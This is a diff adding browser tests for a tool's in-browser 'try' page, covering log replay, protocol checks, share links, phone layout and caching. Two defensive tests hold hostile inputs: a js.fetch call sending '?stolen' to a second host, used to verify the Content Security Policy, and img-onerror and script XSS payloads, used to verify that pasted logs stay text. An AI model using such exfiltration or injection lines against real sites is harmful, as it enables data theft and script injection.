@@ -1,0 +1,242 @@
+"""`make browser-docs`: `try/` of the site that `make site` builds, used in a headless Chromium from
+a static host on the loopback interface. Pictures go to build/browser.
+"""
+
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+from chromium import Chromium, Page
+from static_host import Host
+
+from groupcheck.oracles.command_line.tab import answered
+
+ROOT = Path(__file__).parents[2]
+SITE = ROOT / "build" / "site"
+PICTURES = ROOT / "build" / "browser"
+SPEC = (ROOT / "tests/examples/two_phase_commit.py").read_text("utf-8")
+MISTAKE = SPEC.replace("evolve(network, prepared=network", "evolve(netwrk, prepared=network")
+WRONG = SPEC.replace("len(coordinator.prepared) == scope", "len(coordinator.prepared) >= 1")
+MOST_TRANSFERRED = 20 << 20
+PHONE = {"width": 390, "height": 844, "mobile": True}
+PATIENCE_S = 120  # for a machine with other things to do
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Chromium]:
+    with Chromium() as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def host() -> Iterator[Host]:
+    assert (SITE / "try/python/groupcheck.zip").exists(), "make site builds what is looked at"
+    with Host(SITE) as running:
+        yield running
+
+
+def until(page: Page, condition: str) -> None:
+    """Waits until an expression over the page is true."""
+    end = time.monotonic() + PATIENCE_S
+    while not page.run(f"Boolean({condition})"):
+        assert time.monotonic() < end, (condition, page.run("document.body.innerText"), page.errors)
+        time.sleep(0.1)
+
+
+def front(page: Page) -> None:
+    """Shows the tab: nothing is drawn in one behind others."""
+    page.call("Page.bringToFront")
+    page.frame()
+
+
+def text(page: Page, name: str) -> str:
+    return str(page.run(f"document.getElementById({name!r}).textContent"))
+
+
+def put(page: Page, name: str, value: str) -> None:
+    page.run(
+        f"(() => {{ const e = document.getElementById({name!r}); e.value = {json.dumps(value)};"
+        " e.dispatchEvent(new Event('input')); })()"
+    )
+
+
+def press(page: Page, name: str) -> None:
+    page.run(f"document.getElementById({name!r}).click()")
+    until(page, "document.getElementById('meter').hidden")
+
+
+@pytest.fixture(scope="module")
+def log(browser: Chromium, host: Host) -> Page:
+    """A first visit, by a link to the answer about a sample."""
+    address = f"{host.address}try/index.html#1/log/ghost-members"
+    page = browser.open(address, width=1280, height=1000, watched=True)
+    until(page, "!document.getElementById('answer').hidden")
+    return page
+
+
+@pytest.fixture(scope="module")
+def write(browser: Chromium, host: Host, log: Page) -> Page:
+    page = browser.open(f"{host.address}try/#1/write/", width=1280, height=1000, watched=True)
+    until(page, "performance.getEntriesByName('ready').length")
+    return page
+
+
+def test_a_sample_is_answered_as_on_the_command_line(log: Page, host: Host, tmp_path: Path) -> None:
+    told = answered(["replay", "sample:ghost-members"], tmp_path)
+    assert text(log, "out") == told.out
+    assert text(log, "code") == f"trouble (exit code {told.code})"
+    assert log.run("document.getElementById('page').srcdoc.includes('198 members died together')")
+    front(log)
+    log.run("document.getElementById('answer').scrollIntoView()")
+    log.frame()
+    log.picture(PICTURES / "try-log.png")
+    assert log.errors == []
+    first = dict(host.sent)  # each path once: the service worker's copies come from the cache
+    assert sum(first.values()) < MOST_TRANSFERRED
+
+
+def test_no_request_leaves_the_site_and_none_is_made_after_loading(log: Page, host: Host) -> None:
+    until(log, "navigator.serviceWorker.controller")
+    before, sent = len(log.requests), len(host.sent)
+    assert any(address.endswith("/try/python/pyodide.asm.wasm") for address in log.requests)
+    put(log, "pasted", "[2024-05-01 10:00:00,123] INFO [GroupCoordinator 0]: Stabilized group g"
+        " generation 1 (__consumer_offsets-0) with 1 members"
+        " (kafka.coordinator.group.GroupCoordinator)\n")  # fmt: skip
+    press(log, "replay")
+    assert "group g" in text(log, "out")
+    assert (log.requests[before:], host.sent[sent:]) == ([], [])
+    own = (host.address, f"blob:{host.address}")
+    assert [address for address in log.requests if not address.startswith(own)] == []
+
+
+def test_code_in_a_protocol_reaches_no_other_host(write: Page) -> None:
+    with Host(SITE) as other:
+        asks = f"import js\n\njs.fetch('{other.address}?stolen')\n"
+        put(write, "text", asks + SPEC)
+        press(write, "check")
+        until(write, "document.getElementById('code').textContent.startsWith('holds')")
+        write.run("new Promise((done) => setTimeout(done, 500))")
+        assert other.sent == []
+    assert any("Content Security Policy" in told for told in write.errors)
+    write.errors.clear()
+
+
+def test_a_hostile_log_stays_text(log: Page, tmp_path: Path) -> None:
+    hurt = "<img src=x onerror=parent.hurt=1><script>parent.hurt=1</script>"
+    line = (
+        f"[2024-05-01 10:00:00,123] INFO [GroupCoordinator 0]: Preparing to rebalance group {hurt}"
+        " in state PreparingRebalance with old generation 5 (__consumer_offsets-1) (reason:"
+        f" {hurt}) (kafka.coordinator.group.GroupCoordinator)\n"
+    )
+    put(log, "pasted", line * 3)
+    press(log, "replay")
+    assert "parent.hurt" in log.run("document.getElementById('page').srcdoc")
+    front(log)
+    assert log.run("window.hurt") is None
+    # The frame is of another origin: the page cannot even look into it, nor it into the page.
+    assert log.run("document.getElementById('page').contentDocument") is None
+    (tmp_path / "pasted.log").write_text(line * 3)
+    assert text(log, "out") == answered(["replay", "pasted.log"], tmp_path).out
+
+
+def test_bad_input_is_refused_as_on_the_command_line(log: Page, tmp_path: Path) -> None:
+    put(log, "pasted", "")
+    press(log, "replay")
+    (tmp_path / "pasted.log").touch()
+    told = answered(["replay", "pasted.log"], tmp_path)
+    assert (text(log, "error"), log.run("document.getElementById('out').hidden")) == (
+        told.err, True,
+    )  # fmt: skip
+    assert told.code == 2 and text(log, "code").endswith("(exit code 2)")
+
+
+def test_a_mistake_is_shown_at_its_line_and_mended_it_holds(write: Page) -> None:
+    put(write, "text", MISTAKE)
+    press(write, "check")
+    marked = "document.querySelector('#numbers .at')?.textContent"
+    line = MISTAKE[: MISTAKE.index("netwrk")].count("\n") + 1
+    assert "name 'netwrk' is not defined" in text(write, "error")
+    assert write.run(marked) == str(line)
+    front(write)
+    write.picture(PICTURES / "try-mistake.png")
+    put(write, "text", SPEC)
+    assert write.run(marked) is None
+    press(write, "check")
+    assert text(write, "code") == "holds (exit code 0)"
+    assert "288 (1,145 transitions, 11 levels)" in text(write, "out")
+    put(write, "text", WRONG)
+    press(write, "check")
+    assert text(write, "code") == "violated (exit code 1)"
+    front(write)
+    write.run("document.getElementById('answer').scrollIntoView()")
+    write.frame()
+    write.picture(PICTURES / "try-violated.png")
+    assert write.errors == []
+
+
+def test_a_link_holds_the_text_and_runs_nothing(write: Page, browser: Chromium, host: Host) -> None:
+    put(write, "text", WRONG)
+    write.run("document.getElementById('share').click()")
+    until(write, "document.getElementById('shared').textContent")
+    address = write.run("location.href")
+    assert len(address) < 2_000
+    opened = browser.open(address, **PHONE)
+    until(opened, "document.getElementById('text').value")
+    assert opened.run("document.getElementById('text').value") == WRONG
+    assert not opened.run("document.getElementById('from-link').hidden")
+    until(opened, "performance.getEntriesByName('ready').length")
+    assert opened.run("document.getElementById('answer').hidden")
+    opened.picture(PICTURES / "try-phone.png")
+    assert opened.run("document.documentElement.scrollWidth") == PHONE["width"]
+    assert opened.errors == []
+    opened.call("Page.close")
+
+
+def test_stop_ends_a_search_and_python_starts_again(write: Page) -> None:
+    put(write, "text", SPEC)
+    put(write, "settings", "managers=9")
+    write.run("document.getElementById('check').click()")
+    until(write, "document.getElementById('progress').textContent.includes('states')")
+    write.run("document.getElementById('stop').click()")
+    assert write.run("document.getElementById('meter').hidden")
+    put(write, "settings", "managers=2")
+    press(write, "check")
+    assert text(write, "code") == "holds (exit code 0)"
+
+
+def test_a_phone_reads_a_log(browser: Chromium, host: Host, log: Page) -> None:
+    page = browser.open(f"{host.address}try/#1/log/zombie", scheme="dark", **PHONE)
+    until(page, "!document.getElementById('answer').hidden")
+    page.picture(PICTURES / "try-log-phone.png")
+    assert page.run("document.documentElement.scrollWidth") == PHONE["width"]
+    assert page.errors == []
+    page.call("Page.close")
+
+
+@pytest.fixture
+def timed(browser: Chromium) -> Callable[[str], float]:
+    """Milliseconds from the begin of a visit to the first answer."""
+
+    def visit(address: str) -> float:
+        page = browser.open(address)
+        until(page, "performance.getEntriesByName('answered').length")
+        took = page.run("performance.getEntriesByName('answered')[0].startTime")
+        page.call("Page.close")
+        return float(took)
+
+    return visit
+
+
+def test_a_later_visit_transfers_nothing(
+    timed: Callable[[str], float], log: Page, host: Host
+) -> None:
+    until(log, "navigator.serviceWorker.controller")
+    sent = len(host.sent)
+    print(f"a later visit: {timed(f'{host.address}try/index.html#1/log/ghost-members'):,.0f} ms")
+    assert [
+        path for path, _ in host.sent[sent:] if "sw.js" not in path and "files.js" not in path
+    ] == []
